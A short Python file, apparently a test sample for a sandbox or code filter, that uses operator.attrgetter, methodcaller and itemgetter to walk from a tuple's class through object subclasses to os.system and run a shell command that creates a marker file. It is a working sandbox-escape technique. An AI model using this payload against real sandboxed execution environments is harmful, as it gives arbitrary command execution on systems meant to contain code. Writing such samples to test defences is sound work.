"""file: operator.attrgetter follows dots."""

import operator

base = operator.attrgetter("__class__.__base__")(())
subclasses = operator.methodcaller("__subclasses__")(base)
wanted = next(c for c in subclasses if c.__name__ == "_wrap_close")
system = operator.itemgetter("system")(operator.attrgetter("__init__.__globals__")(wanted))
x = system("touch pwned_attrgetter_walk")
